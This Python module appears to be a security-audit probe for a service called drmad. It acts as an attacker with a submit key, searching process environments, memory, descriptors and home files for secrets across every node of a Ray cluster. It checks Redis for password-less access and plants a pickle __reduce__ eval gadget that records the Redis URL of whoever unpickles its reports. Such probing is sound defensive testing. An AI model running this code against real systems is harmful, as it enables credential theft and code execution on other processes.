"""User code as an attacker with a `submit` key writes it: what of the service is within reach?

`build` looks around in its own process, and by Ray tasks without CPUs on every node of the cluster.
It returns from the worker an object whose unpickling runs code, for whoever reads the worker's
answer. Last it raises an error whose message is the report (JSON).
"""

# mypy: ignore-errors
import contextlib
import glob
import json
import os
import socket
import sys

WORDS = ("DRMAD_REDIS_URL", "DRMAD_KEY_FILE", "DRMAD_WEBHOOK_SECRET", "redis.sock", "redis://")


def look(home, known):
    """Where a secret of the service can be read from this process, and which processes open."""
    words = [word.encode() for word in (*WORDS, *known)]
    found = []

    def read(place, path):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            content = file.read(1 << 20)
            found.extend(f"{place}: {word.decode()}" for word in words if word in content)

    own = "\0".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    found.extend(f"own environment: {word.decode()}" for word in words if word in own)
    for process in glob.glob("/proc/[0-9]*"):
        read("environment of a process", f"{process}/environ")
        command = b""
        with contextlib.suppress(OSError), open(f"{process}/cmdline", "rb") as file:
            command = file.read()
        if b"drmad_client" in command and (b"serve" in command or b"schedule" in command):
            with contextlib.suppress(OSError), open(f"{process}/mem", "rb"):
                found.append("memory of a process of the service")
            with contextlib.suppress(OSError):
                os.kill(int(os.path.basename(process)), 0)
                found.append("signals to a process of the service")
            with contextlib.suppress(OSError):
                for name in os.listdir(f"{process}/fd"):
                    os.readlink(f"{process}/fd/{name}")
                    found.append("descriptors of a process of the service")
    for descriptor in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            path = os.readlink(f"/proc/self/fd/{descriptor}")
            if path.startswith(home) and not path.startswith(f"{home}/data"):
                found.append(f"own descriptor: {path}")
    if home:
        for folder, _, files in os.walk(home):
            for name in files:
                if not folder.startswith(f"{home}/data"):
                    read(f"file {name} of the home", os.path.join(folder, name))
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as redis:
            redis.settimeout(10)
            redis.connect(f"{home}/redis/redis.sock")
            redis.sendall(b"PING\r\n")
            answer = redis.recv(100)
            if answer.startswith(b"+PONG"):
                found.append("Redis answers without a password")
    return sorted(set(found))


def on_every_node(home, known):
    """By Ray tasks without CPUs, which affinity places on any node."""
    import ray
    from ray import cloudpickle
    from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

    cloudpickle.register_pickle_by_value(sys.modules[__name__])
    found = []
    for node in ray.nodes():
        if node["Alive"]:
            there = NodeAffinitySchedulingStrategy(node["NodeID"], soft=False)
            task = ray.remote(num_cpus=0, scheduling_strategy=there)(look)
            found.extend(f"by a Ray task, {each}" for each in ray.get(task.remote(home, known)))
    return sorted(set(found))


def trap(marker):
    """Makes every report of progress an object whose unpickling notes who unpickled it."""
    from drmad_workers.ray_actor import messages

    note = (
        f"open({marker!r}, 'a').write(__import__('json').dumps("
        "[__import__('os').environ.get('DRMAD_REDIS_URL', ''), __import__('sys').argv]) + '\\n')"
        " and __import__('drmad_workers.ray_actor.messages', fromlist=['x'])"
        ".ProgressReport('', 0, 0, [])"
    )
    messages.ProgressReport.__reduce__ = lambda self: (eval, (note,))


def build(home="", known=(), marker="", wait_s=0.0):
    if marker:
        import time

        trap(marker)
        time.sleep(wait_s)  # meanwhile the scheduler asks for reports
    found = look(home, known) + on_every_node(home, known)
    sys.stdout.write(json.dumps(found))
    raise RuntimeError(json.dumps(found))
